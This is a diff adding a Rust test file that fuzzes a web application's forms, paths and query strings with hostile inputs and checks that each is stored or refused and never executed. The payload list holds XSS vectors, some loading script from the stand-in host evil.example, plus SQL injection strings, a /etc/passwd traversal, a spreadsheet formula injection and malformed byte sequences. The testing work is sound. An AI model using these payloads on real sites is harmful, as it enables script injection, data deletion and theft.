@@ -1,0 +1,569 @@
+//! Hostile text in every field of every form, as the pages themselves offer
+//! them: stored or refused, never run, never a defect.
+
+use std::collections::BTreeMap;
+
+use domain::case::stage::DeclineGround;
+use domain::case::{Command, Visibility};
+use domain::text::Sentence;
+use pages::case::Verb;
+
+use super::listed;
+use super::world::{self, Which, Who, World};
+use crate::app::{Answer, TestApp, Visitor};
+use crate::html::unescape;
+use crate::town::{self, HOSTILE, PASSWORD, attributes, nothing_runs, tags};
+
+/// Besides [`HOSTILE`].
+const MORE: &[&str] = &[
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext></p><img src=x onerror=alert(1)>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\">",
+    "<object data=javascript:alert(1)>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "vbscript:msgbox(1)",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+    "<style>@import'//evil.example/x.css';</style>",
+    "</style><script>alert(1)</script>",
+    "</noscript><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "' autofocus onfocus=alert(1) x='",
+    "` onmouseover=alert(1) `",
+    "\"/><leptos-island data-component=\"evil\">",
+    "<!--hot-reload|evil--><script>alert(1)</script>",
+    "<form action=//evil.example><input name=password>",
+    "</form><form method=post action=/sign-out><button>",
+    "<input name=key value=evil>",
+    "' OR '1'='1",
+    "1); DELETE FROM people; --",
+    "$1 $2 ?1 :name @name",
+    "%' ESCAPE '\\",
+    "../../../../etc/passwd",
+    "//evil.example/",
+    "https://evil.example/?q=<script>",
+    "=1+1;cmd|' /C calc'!A0",
+    "-9223372036854775809",
+    "1e999",
+    "NaN",
+    "2026-02-30",
+    "0000-00-00",
+    "\u{0}",
+    "\u{7f}\u{80}\u{9f}",
+    "\u{2028}\u{2029}",
+    "\u{e0001}\u{e0041}",
+    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
+    "ﷺ﷽",
+    "ⅷ①²㎏",
+    "İıſK",
+    "繁體簡體髮发發後后",
+];
+
+/// Bytes that are no text at all, as a program can send them.
+const NO_TEXT: &[&[u8]] = &[
+    b"%ED%A0%80",
+    b"%FF%FE%00",
+    b"%C0%AF",
+    b"%F4%90%80%80",
+    b"%",
+    b"%E7%81",
+];
+
+/// A form of a page.
+#[derive(Clone, Debug)]
+struct Found {
+    cookies: Vec<(String, String)>,
+    action: String,
+    files: bool,
+    fields: Vec<Field>,
+}
+
+#[derive(Clone, Debug)]
+struct Field {
+    name: String,
+    /// `text`, `hidden`, `choice`.
+    typed: bool,
+    value: String,
+}
+
+/// Every form of a page that is posted.
+fn forms(page: &Answer, cookies: &[(String, String)]) -> Vec<Found> {
+    let mut found: Vec<Found> = Vec::new();
+    let mut inside = false;
+    for tag in tags(&page.text) {
+        let kind = tag
+            .split(|one: char| one.is_whitespace())
+            .next()
+            .unwrap_or_default()
+            .to_owned();
+        let about = attributes(&tag);
+        let about = |name: &str| {
+            about
+                .get(name)
+                .map(|value| unescape(value))
+                .unwrap_or_default()
+        };
+        match kind.as_str() {
+            "form" if about("method") == "post" => {
+                inside = true;
+                found.push(Found {
+                    cookies: cookies.to_vec(),
+                    action: about("action"),
+                    files: about("enctype") == "multipart/form-data",
+                    fields: Vec::new(),
+                });
+            }
+            "/form" => inside = false,
+            "option" if inside => {
+                // The first option stands for the field.
+                let form = found.last_mut().unwrap();
+                if let Some(field) = form
+                    .fields
+                    .last_mut()
+                    .filter(|field| field.value.is_empty())
+                {
+                    field.value = about("value");
+                }
+            }
+            "input" | "textarea" | "select" | "button" if inside && !about("name").is_empty() => {
+                let form = found.last_mut().unwrap();
+                let name = about("name");
+                let typed = match kind.as_str() {
+                    "textarea" => true,
+                    "input" => !matches!(
+                        about("type").as_str(),
+                        "hidden" | "radio" | "checkbox" | "file" | "submit"
+                    ),
+                    _ => false,
+                };
+                let file = kind == "input" && about("type") == "file";
+                if !file && !form.fields.iter().any(|field| field.name == name) {
+                    form.fields.push(Field {
+                        name,
+                        typed,
+                        value: about("value"),
+                    });
+                }
+            }
+            _ => {}
+        }
+    }
+    found
+}
+
+/// The start of the story: more stages, drafts, codes that are awaited.
+struct Stage {
+    forms: Vec<Found>,
+    witnesses: Vec<(Vec<(String, String)>, String)>,
+}
+
+fn words() -> Sentence {
+    Sentence::parse("I went there this morning.").unwrap()
+}
+
+/// One more case in each stage that asks something else of somebody.
+async fn more_cases(app: &TestApp) -> Vec<String> {
+    let id = async |who: Who| {
+        let handle =
+            domain::handle::Handle::parse(&format!("{}@example.org", who.label())).unwrap();
+        app.store
+            .find_account(&handle)
+            .await
+            .unwrap()
+            .unwrap()
+            .person
+    };
+    let (author, holder) = (id(Who::Author).await, id(Who::Holder).await);
+    let hear = || Command::Hear { words: words() };
+    let decline = Command::Decline {
+        ground: DeclineGround::AlreadyDecided,
+        words: words(),
+        instead: words(),
+    };
+    let stories = [
+        vec![hear()],
+        vec![hear(), Command::AskResident { words: words() }],
+        vec![hear(), decline],
+    ];
+    let mut references = Vec::new();
+    for story in stories {
+        let case = world::filed(app, author, Visibility::Public).await;
+        for command in story {
+            world::act(app, &case, holder, command).await;
+        }
+        references.push(case.reference.to_string());
+    }
+    references
+}
+
+/// Browsers that are in the middle of something.
+async fn in_the_middle(app: &TestApp) -> Vec<Visitor> {
+    let mut reporting = app.visitor();
+    town::Report::default().write(&mut reporting).await;
+    let mut joining = app.visitor();
+    let fields = [
+        ("handle", "new@example.org"),
+        ("name", "New"),
+        ("password", PASSWORD),
+    ];
+    joining.post("/sign-up", &fields).await.expect(303);
+    let mut forgetting = app.visitor();
+    forgetting
+        .post("/forgot", &[("handle", "resident@example.org")])
+        .await
+        .expect(303);
+    let mut proven = app.visitor();
+    proven
+        .post("/forgot", &[("handle", "author@example.org")])
+        .await
+        .expect(303);
+    let code = town::code_sent_to(app, "author@example.org").await;
+    proven
+        .post("/confirm", &[("code", &code)])
+        .await
+        .expect(303);
+    vec![reporting, joining, forgetting, proven]
+}
+
+async fn stage(app: &TestApp, world: &World) -> Stage {
+    let references = more_cases(app).await;
+    let mut browsers = in_the_middle(app).await;
+    browsers.extend(
+        [
+            Who::Visitor,
+            Who::Resident,
+            Who::Author,
+            Who::Affected,
+            Who::Holder,
+        ]
+        .map(|who| world.browser(app, who)),
+    );
+    let mut addresses: Vec<String> = Vec::new();
+    for (_, template, _) in listed::all().filter(|(method, ..)| *method == "GET") {
+        for which in Which::KEPT {
+            addresses.extend(world.addresses(template, which));
+        }
+    }
+    for reference in &references {
+        let acts = Verb::ALL.map(|verb| format!("/cases/{reference}/{}", verb.code()));
+        addresses.extend(acts);
+    }
+    addresses.sort();
+    addresses.dedup();
+    let mut forms_by_kind = BTreeMap::new();
+    for browser in &browsers {
+        for address in &addresses {
+            let page = browser.clone().get(address).await;
+            for form in forms(&page, &browser.cookies) {
+                let names: Vec<String> =
+                    form.fields.iter().map(|field| field.name.clone()).collect();
+                let action: String = form
+                    .action
+                    .chars()
+                    .filter(|one| !one.is_ascii_digit())
+                    .collect();
+                forms_by_kind.entry((action, names)).or_insert(form);
+            }
+        }
+    }
+    let seen = |who: Who, path: String| (world.browser(app, who).cookies, path);
+    let case = |which: Which| format!("/cases/{}", world.reference(which));
+    let witnesses = vec![
+        seen(Who::Visitor, case(Which::Waiting)),
+        seen(Who::Visitor, case(Which::Reported)),
+        seen(Who::Visitor, "/cases".to_owned()),
+        seen(Who::Holder, case(Which::Waiting)),
+        seen(Who::Holder, case(Which::Private)),
+        seen(Who::Holder, "/inbox".to_owned()),
+        seen(Who::Author, "/me".to_owned()),
+        seen(Who::Author, case(Which::Private)),
+        seen(Who::Affected, "/me".to_owned()),
+        seen(Who::Resident, "/me/settings".to_owned()),
+        (browsers[0].cookies.clone(), "/report/check".to_owned()),
+    ];
+    Stage {
+        forms: forms_by_kind.into_values().collect(),
+        witnesses,
+    }
+}
+
+/// Percent-encoded, as a browser sends text; what is no text goes as it is.
+enum Payload {
+    Text(String),
+    Bytes(&'static [u8]),
+}
+
+impl Payload {
+    fn encoded(&self) -> Vec<u8> {
+        match self {
+            Self::Text(text) => pages::routes::query_value(text).into_bytes(),
+            Self::Bytes(bytes) => bytes.to_vec(),
+        }
+    }
+
+    fn raw(&self) -> &[u8] {
+        match self {
+            Self::Text(text) => text.as_bytes(),
+            Self::Bytes(_) => b"\xed\xa0\x80\xff\xfe",
+        }
+    }
+}
+
+fn payloads() -> Vec<Payload> {
+    let long = [
+        "x".repeat(100_000),
+        "字".repeat(2_000),
+        "<b>".repeat(1_500),
+        "\u{301}".repeat(3_000),
+    ];
+    let texts = HOSTILE
+        .iter()
+        .chain(MORE)
+        .map(|text| (*text).to_owned())
+        .chain(long);
+    let bytes = NO_TEXT.iter().map(|bytes| Payload::Bytes(bytes));
+    texts.map(Payload::Text).chain(bytes).collect()
+}
+
+/// Sends a form with the payload in what is typed, or in everything.
+async fn send(browser: &mut Visitor, form: &Found, payload: &Payload, everywhere: bool) -> Answer {
+    const EDGE: &str = "----linli-edge";
+    let hostile = |field: &Field| field.typed || everywhere;
+    if form.files {
+        let mut body = Vec::new();
+        for field in &form.fields {
+            let head = format!(
+                "--{EDGE}\r\nContent-Disposition: form-data; name=\"{}\"\r\n\r\n",
+                field.name
+            );
+            body.extend_from_slice(head.as_bytes());
+            let value = if hostile(field) {
+                payload.raw()
+            } else {
+                field.value.as_bytes()
+            };
+            body.extend_from_slice(value);
+            body.extend_from_slice(b"\r\n");
+        }
+        body.extend_from_slice(format!("--{EDGE}--\r\n").as_bytes());
+        let kind = format!("multipart/form-data; boundary={EDGE}");
+        return browser.post_bytes(&form.action, &kind, body).await;
+    }
+    let mut body = Vec::new();
+    for field in &form.fields {
+        body.extend_from_slice(pages::routes::query_value(&field.name).as_bytes());
+        body.push(b'=');
+        if hostile(field) {
+            body.extend(payload.encoded());
+        } else {
+            body.extend_from_slice(pages::routes::query_value(&field.value).as_bytes());
+        }
+        body.push(b'&');
+    }
+    browser
+        .post_bytes(&form.action, "application/x-www-form-urlencoded", body)
+        .await
+}
+
+#[track_caller]
+fn harmless(answer: &Answer, payload: &Payload, what: &str) {
+    assert!(
+        !answer.status.is_server_error(),
+        "{what}: {}\n{}",
+        answer.status,
+        answer.text
+    );
+    assert!(!answer.text.contains('\0'), "{what}: NUL on the page");
+    if let Payload::Text(text) = payload
+        && text.contains('<')
+    {
+        assert!(
+            !answer.text.contains(text.as_str()),
+            "{what}: {text} came back as it was"
+        );
+    }
+    for tag in tags(&answer.text) {
+        let name = tag
+            .split(|one: char| !one.is_ascii_alphanumeric())
+            .next()
+            .unwrap_or_default();
+        assert!(
+            !matches!(
+                name.to_ascii_lowercase().as_str(),
+                "iframe" | "object" | "embed" | "base" | "animate" | "math" | "style"
+            ),
+            "{what}: <{tag}>"
+        );
+        assert!(
+            !tag.contains("evil.example") || tag.contains('"'),
+            "{what}: <{tag}>"
+        );
+    }
+    nothing_runs(answer);
+}
+
+fn browser(app: &TestApp, cookies: &[(String, String)]) -> Visitor {
+    let mut browser = app.visitor();
+    browser.cookies = cookies.to_vec();
+    browser
+}
+
+/// One payload in every form, and then a look at every page that shows what people wrote.
+async fn attack(
+    app: &TestApp,
+    stage: &Stage,
+    number: usize,
+    payload: &Payload,
+) -> BTreeMap<u16, usize> {
+    let mut answers = BTreeMap::new();
+    let count = stage.forms.len();
+    // Another form comes first each time: what one of them settles, the next finds settled.
+    for at in 0..count {
+        let form = &stage.forms[(at + number * 7) % count];
+        for everywhere in [false, true] {
+            if everywhere != (number % 6 == 5)
+                && (everywhere || !form.fields.iter().any(|field| field.typed))
+            {
+                continue;
+            }
+            let mut browser = browser(app, &form.cookies);
+            let answer = send(&mut browser, form, payload, everywhere).await;
+            let what = format!("payload {number} to {}", form.action);
+            harmless(&answer, payload, &what);
+            *answers.entry(answer.status.as_u16()).or_default() += 1;
+            if let Some(next) = answer.location() {
+                assert!(
+                    next.starts_with('/') && !next.starts_with("//"),
+                    "{what} leads to {next}"
+                );
+                harmless(
+                    &browser.get(&next).await,
+                    payload,
+                    &format!("{what}, then {next}"),
+                );
+            }
+        }
+    }
+    for (cookies, path) in &stage.witnesses {
+        let answer = browser(app, cookies).get(path).await;
+        harmless(&answer, payload, &format!("{path} after payload {number}"));
+    }
+    answers
+}
+
+/// Whether one engine takes it otherwise than another: what is no text, and what is long.
+fn is_raw(payload: &Payload) -> bool {
+    let odd = |text: &str| {
+        text.len() > 2_000 || text.chars().any(|one| one.is_control() || one > '\u{fff0}')
+    };
+    match payload {
+        Payload::Text(text) => odd(text) || text.contains('\''),
+        Payload::Bytes(_) => true,
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_text_in_every_field_is_stored_or_refused_and_never_runs() {
+    let world = World::get().await;
+    let app = world.open().await;
+    let stage = stage(&app, world).await;
+    let content = app.store.content().await;
+    let typed = stage
+        .forms
+        .iter()
+        .filter(|form| form.fields.iter().any(|field| field.typed))
+        .count();
+    assert!(
+        stage.forms.len() >= 35 && typed >= 18,
+        "{} forms were found, {typed} with text",
+        stage.forms.len()
+    );
+    let mut answers: BTreeMap<u16, usize> = BTreeMap::new();
+    for (number, payload) in payloads().iter().enumerate() {
+        let app = TestApp::on(store::testing::sqlite_from(&content).await);
+        for (status, count) in attack(&app, &stage, number, payload).await {
+            *answers.entry(status).or_default() += count;
+        }
+    }
+    let seen = |status: u16| answers.get(&status).copied().unwrap_or_default();
+    // Some were stored, some refused at their field, some were too long to be read at all.
+    assert!(
+        seen(303) > 100 && seen(422) > 100 && seen(413) > 0,
+        "{answers:?}"
+    );
+}
+
+#[tokio::test]
+async fn what_postgres_takes_otherwise_is_harmless_there_too() {
+    let app = TestApp::on(store::testing::postgres().await);
+    let world = World::made_in(&app).await;
+    let stage = stage(&app, &world).await;
+    let payloads = payloads();
+    let raw: Vec<_> = payloads
+        .iter()
+        .enumerate()
+        .filter(|(_, payload)| is_raw(payload))
+        .collect();
+    assert!(raw.len() > 10);
+    for (number, payload) in raw {
+        attack(&app, &stage, number, payload).await;
+        attack_addresses(&app, &world, number, payload).await;
+    }
+}
+
+/// One payload in the path and in the query of every page.
+async fn attack_addresses(app: &TestApp, world: &World, number: usize, payload: &Payload) {
+    const NAMES: [&str; 10] = [
+        "q", "back", "stage", "category", "place", "body", "page", "done", "verdict", "after",
+    ];
+    if payload.raw().len() > 10_000 {
+        return;
+    }
+    let hostile = String::from_utf8(payload.encoded()).unwrap();
+    let query: Vec<String> = NAMES
+        .iter()
+        .map(|name| format!("{name}={hostile}"))
+        .collect();
+    for (_, template, _) in listed::all().filter(|(method, ..)| *method == "GET") {
+        let path = world.addresses(template, Which::Waiting).remove(0);
+        let part = |part: &'static str| {
+            if part.starts_with('{') {
+                hostile.clone()
+            } else {
+                part.to_owned()
+            }
+        };
+        let filled: Vec<String> = template.split('/').map(part).collect();
+        for address in [format!("{path}?{}", query.join("&")), filled.join("/")] {
+            // What is no address, a browser cannot ask for.
+            if address.parse::<http::Uri>().is_err() {
+                continue;
+            }
+            let who = if number.is_multiple_of(2) {
+                Who::Holder
+            } else {
+                Who::Visitor
+            };
+            let answer = world.browser(app, who).get(&address).await;
+            harmless(
+                &answer,
+                payload,
+                &format!("{template} with payload {number}"),
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn hostile_addresses_are_harmless() {
+    let world = World::get().await;
+    let app = world.open().await;
+    for (number, payload) in payloads().iter().enumerate() {
+        attack_addresses(&app, world, number, payload).await;
+    }
+}
